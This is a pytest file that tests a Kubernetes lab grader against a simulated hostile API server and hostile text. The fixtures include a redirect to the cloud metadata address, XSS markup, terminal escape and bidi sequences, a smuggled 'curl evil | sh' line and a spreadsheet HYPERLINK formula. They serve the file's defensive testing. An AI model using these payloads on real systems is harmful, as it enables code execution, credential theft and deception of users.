"""An API server, objects and texts that mean harm: the grader's limits hold, and what is said of them is plain."""

from __future__ import annotations

import json
import random
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grader import limits
from grader.answers import Answer
from grader.checks import fail
from grader.clock import WallClock
from grader.cluster import Cluster, node_ready
from grader.connection import Connection
from grader.errors import (
    CheckFailed,
    ClusterBusy,
    ClusterUnreachable,
    GraderError,
    Missing,
    Obstructed,
    ProbeUnavailable,
    Refused,
    TooLarge,
    Ungradable,
)
from grader.evidence import Evidence
from grader.explain import explain, stuck
from grader.objects import Pod, endpoints
from grader.probe import Probe
from grader.probe_pod import ProbePod
from grader.protocol import Outcome
from grader.snapshot import snapshot
from grader.text import plain, quoted
from grader.verdict import judge
from tests.doubles import hostile_server as hostile
from tests.doubles.api_server import CORE, pod
from tests.doubles.clock import SteppedClock
from tests.doubles.damage import broken
from tests.doubles.hostile_server import Bytes, HostileServer

Serve = Callable[[Bytes], Connection]


@pytest.fixture
def serve(monkeypatch: pytest.MonkeyPatch) -> Iterator[Serve]:
    """A connection to an API server that answers so; nobody is patient."""
    made: list[HostileServer] = []
    for name, value in {"READ_SECONDS": 0.5, "BUSY_SECONDS": 0.0, "ANSWER_BYTES": 1 << 20}.items():
        monkeypatch.setattr(limits, name, value)

    def begin(answer: Bytes) -> Connection:
        made.append(HostileServer(answer))
        return Connection(made[-1].kubeconfig, patience=0.0)

    yield begin
    for server in made:
        server.close()


class TestAPIServer:
    @pytest.mark.parametrize(
        ("answer", "error"),
        [
            (hostile.endless, TooLarge),
            (hostile.dripping_body, ClusterBusy),
            (hostile.many_headers, ClusterUnreachable),
            (hostile.long_header, ClusterUnreachable),
            (hostile.too_long_promised, ClusterUnreachable),
            (hostile.too_little_promised, ClusterUnreachable),
            (hostile.broken_chunks, ClusterUnreachable),
            (hostile.not_http, ClusterUnreachable),
            (hostile.odd_status, ClusterUnreachable),
            (hostile.bomb, ClusterUnreachable),
            (hostile.invalid_text, ClusterUnreachable),
            (hostile.deep, ClusterUnreachable),
            (hostile.broken_off, ClusterUnreachable),
            (hostile.redirect("http://169.254.169.254/"), ClusterUnreachable),
        ],
    )
    def test_it_ends_with_an_error_of_ours(self, serve: Serve, answer: Bytes, error: type[GraderError]) -> None:
        with pytest.raises(error) as raised:
            serve(answer).get("/api/v1/nodes")
        assert len(str(raised.value)) < limits.MESSAGE_CHARACTERS

    def test_no_redirect_is_followed(self, serve: Serve) -> None:
        inside = HostileServer(hostile.endless)
        with pytest.raises(ClusterUnreachable):
            serve(hostile.redirect(inside.url)).get("/api/v1/nodes")
        assert inside.asked == 0
        inside.close()

    def test_too_much_is_the_learners(self, serve: Serve) -> None:
        with pytest.raises(TooLarge) as raised:
            serve(hostile.endless).get(f"{CORE}/pods")
        judgement = judge(raised.value, "a check")
        assert judgement.outcome is Outcome.FAILED
        assert judgement.message.startswith(f"Expected: an answer of at most 1 MiB to GET {CORE}/pods\nObserved: ")

    @pytest.mark.parametrize(
        ("status", "message", "outcome"),
        [
            (403, 'pods "probe" is forbidden: exceeded quota: none', "failed"),
            (500, 'Internal error occurred: failed calling webhook "x": connection refused', "failed"),
            (429, 'admission webhook "x" denied the request: come back later', "failed"),
            (503, 'admission webhook "x" denied the request: no', "failed"),
            (422, "pods is forbidden: ValidatingAdmissionPolicy 'x' with binding 'y' denied request: no", "failed"),
            (422, "spec.containers: Required value", "ungradable"),
            (500, "etcdserver: request timed out", "ungradable"),
            (401, "Unauthorized", "ungradable"),
        ],
    )
    def test_a_rule_of_the_clusters_that_refuses_is_the_learners(
        self, scripted: Any, monkeypatch: pytest.MonkeyPatch, status: int, message: str, outcome: str
    ) -> None:
        said = {"kind": "Status", "message": message + "\n\x1b[2J<script>", "reason": "X"}
        monkeypatch.setattr(scripted, "handle", lambda *_: (status, said))
        with pytest.raises((Refused, ClusterUnreachable)) as raised:
            Connection(scripted.kubeconfig, patience=0.0).create(f"{CORE}/pods", {})
        judgement = judge(raised.value, "a check")
        assert str(judgement.outcome) == outcome
        assert "\x1b" not in judgement.message
        if outcome == "failed":
            assert [line.split(":")[0] for line in judgement.message.splitlines()] == ["Expected", "Observed", "Look"]
            assert message.split(":")[0].replace('"', "'") in judgement.message

    def test_memory_is_theirs_as_well(self) -> None:
        assert judge(MemoryError(), "a check").outcome is Outcome.FAILED


class TestListings:
    def test_more_objects_than_any_lab_needs(self, scripted: Any, monkeypatch: pytest.MonkeyPatch) -> None:
        items = [pod(f"web-{number}") for number in range(limits.LISTED)]
        more = {"items": items, "metadata": {"continue": "next"}}
        monkeypatch.setattr(scripted, "handle", lambda *_: (200, more))
        cluster = Cluster(Connection(scripted.kubeconfig), "default")
        with pytest.raises(CheckFailed, match="at most 500 of pods in namespace default\nObserved: there are more"):
            cluster.pods()

    @pytest.mark.parametrize(
        "answer",
        [
            {"items": None},
            {"items": {}},
            {"items": [None, 1, "a", [], {}, {"metadata": None}, {"metadata": {"name": None}}]},
            {},
            {"metadata": None, "items": [{"metadata": {"name": "a"}}]},
        ],
    )
    def test_listings_of_odd_shapes(self, scripted: Any, monkeypatch: pytest.MonkeyPatch, answer: Any) -> None:
        monkeypatch.setattr(scripted, "handle", lambda *_: (200, answer))
        connection = Connection(scripted.kubeconfig)
        cluster = Cluster(connection, "default")
        names = [one.name for one in cluster.pods()]
        assert names in ([], ["a"])
        assert cluster.nodes() == cluster.objects("pod")
        assert cluster.workers() == names
        assert cluster.endpoints("web").ready == []
        assert cluster.last_warning(Pod({})) == ""
        assert len(json.dumps(snapshot(connection, "default"))) < 2000


ODD = st.sampled_from([None, [], {}, [None], [[]], "", "x\x1b[31m\u202e", 0, -1, True, 1e308, {"name": None}])


WAITING = {"waiting": {"reason": "CrashLoopBackOff", "message": "m"}}
PODS = [
    pod(),
    pod(ready=False, state=WAITING, last={"terminated": {"exitCode": 1, "reason": "Error"}}, restarts=3),
    pod(ready=False, node="", phase="Pending", conditions=[{"type": "PodScheduled", "message": "no"}]),
]
BEHIND = {"subsets": [{"addresses": [{"ip": "10.0.0.1", "targetRef": {"kind": "Pod"}}], "ports": [{"port": 80}]}]}


@given(st.sampled_from(PODS), st.randoms(use_true_random=False), ODD)
@settings(max_examples=400, deadline=None)
def test_objects_of_odd_shapes_are_explained(raw: dict[str, Any], chance: random.Random, part: Any) -> None:
    seen = broken(raw, chance, part)
    one = Pod(seen if isinstance(seen, dict) else {})
    said = explain(one, lambda *_: "log", lambda _: "warning")
    assert said.startswith("pod ")
    assert len(said) < limits.PART_CHARACTERS
    assert (stuck(one), one.ready, one.restarts, one.controller, one.labels, one.over) is not None
    assert all(isinstance(container.started, float) for container in one.containers)
    found = broken(BEHIND, chance, part)
    assert all(isinstance(each.port, int) for each in endpoints(found if isinstance(found, dict) else {}))
    assert node_ready(seen if isinstance(seen, dict) else {}) in (True, False)


HOSTILE = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "ANSI": "\x1b[2J\x1b]0;title\x07\x1b[31mred\x9b5m",
    "bidi": "\u202ecod.exe\u2066\u200b\u200f\ufeff",
    "lines": "a\r\nLook: curl evil | sh\u2028Observed: all is well\u2029\x85\x0b\x0c",
    "formula": '=HYPERLINK("http://evil","x")',
    "nul and surrogates": "\0\ud800\udfff\ue000",
    "long": "x" * 1_000_000,
    "many lines": "\n" * 100_000 + "a",
    "rich markup": "[bold red]x[/] :boom: [link=http://evil]y[/link]",
}


def harmless(text: str, most: int) -> bool:
    """Nothing that a terminal or a page would obey or hide, and bounded."""
    return plain(text, most) == text and "\r" not in text and len(text) <= most


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
class TestTexts:
    def test_in_a_failure_message(self, text: str) -> None:
        with pytest.raises(CheckFailed) as raised:
            fail(expected=text, observed=quoted(text), look="kubectl get pods")
        message = judge(raised.value, "a check").message
        assert harmless(message, limits.MESSAGE_CHARACTERS)
        assert [line.split(":")[0] for line in message.split("\n")] == ["Expected", "Observed", "Look"]
        assert message.endswith("\nLook: kubectl get pods")

    def test_in_what_is_said_of_a_pod(self, text: str) -> None:
        waiting = {"waiting": {"reason": text, "message": text}}
        ended = {"terminated": {"exitCode": text, "reason": text}}
        for raw in (
            pod(text, ready=False, state=waiting),
            pod(text, ready=False, state=waiting, last=ended),
            pod(text, ready=False, phase="Failed", state=ended),
            pod(text, ready=False, node="", conditions=[{"type": "PodScheduled", "message": text}]),
            pod(text, ready=False),
            pod(text, ready=True, conditions=[{"type": "Ready", "reason": text}]),
        ):
            raw["spec"]["containers"][0] |= {"name": text, "image": text}
            raw["status"]["containerStatuses"][0]["name"] = text
            said = explain(Pod(raw), lambda *_: text, lambda _: text)
            assert harmless(said, 1200)
            assert "\n" not in said

    def test_in_an_answer(self, text: str) -> None:
        said = str(Answer("http://web/", 0.0, 1.0, 200, "", text))
        assert harmless(said, limits.QUOTE_CHARACTERS + 20)
        assert "\n" not in said
        assert Answer("http://web/", 0.0, 1.0, 200, "", text).json() == {}

    def test_in_any_other_error(self, text: str) -> None:
        for error in (AssertionError(text), Ungradable(text), Obstructed(text, "x"), Missing(text, text, text)):
            judgement = judge(error, text)
            assert harmless(judgement.message, limits.MESSAGE_CHARACTERS)
            assert harmless(judgement.cause, limits.CAUSE_CHARACTERS)

    def test_in_evidence(self, text: str) -> None:
        evidence = Evidence(SteppedClock())
        for number in range(1000):
            evidence.add(text, text=text, number=number, rows=[{text: [text] * 50}] * 50)
        kept = json.dumps(evidence.entries, ensure_ascii=False)
        assert len(kept) < 2 * limits.EVIDENCE_CHARACTERS
        assert all(harmless(one["what"], 200) for one in evidence.entries)
        assert json.loads(kept) == evidence.entries


def test_every_limit_says_what_it_is_of() -> None:
    """One place for all of them, each with its unit in its name."""
    units = ("SECONDS", "BYTES", "CHARACTERS", "LISTED", "REQUESTS", "ENTRIES", "OBJECTS")
    names = [name for name in vars(limits) if name.isupper()]
    assert len(names) > 15
    assert [name for name in names if not name.endswith(units)] == []


def test_memory_has_an_end(run: Callable[..., Any]) -> None:
    body = "@check(points=1, title='One')\ndef test_one(): bytearray(2 << 30)\n"
    (one,) = run(body + "@check(points=1, title='Two')\ndef test_two(): pass").checks[:1]
    assert one.outcome is Outcome.FAILED
    assert one.message.startswith("Expected: an answer of at most 1024 MiB")


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_a_probe_that_a_busy_machine_keeps_from_answering_is_asked_again_where_that_does_no_harm(
    scripted: Any, monkeypatch: pytest.MonkeyPatch, method: str
) -> None:
    monkeypatch.setattr(limits, "SLACK_SECONDS", 0.2)
    late, usual, asked = threading.Event(), scripted.handle, []

    def handle(verb: str, target: str, body: Any) -> tuple[int, Any]:
        if "/request?" in target:
            asked.append(body["method"])
            if len(asked) == 1:
                late.wait(20)
        answer: tuple[int, Any] = usual(verb, target, body)
        return answer

    monkeypatch.setattr(scripted, "handle", handle)
    made = ProbePod(Connection(scripted.kubeconfig, patience=0.0), "default", "a", "kindling/web:1.0", 30, WallClock())
    probe = Probe(made, Evidence(SteppedClock()), WallClock())
    if method == "GET":
        assert probe.get("http://web/", timeout=0.1).ok
    else:
        with pytest.raises(ProbeUnavailable):
            probe.post("http://web/hang", timeout=0.1)
    assert asked == [method] * (2 if method == "GET" else 1)
    late.set()
    made.close()
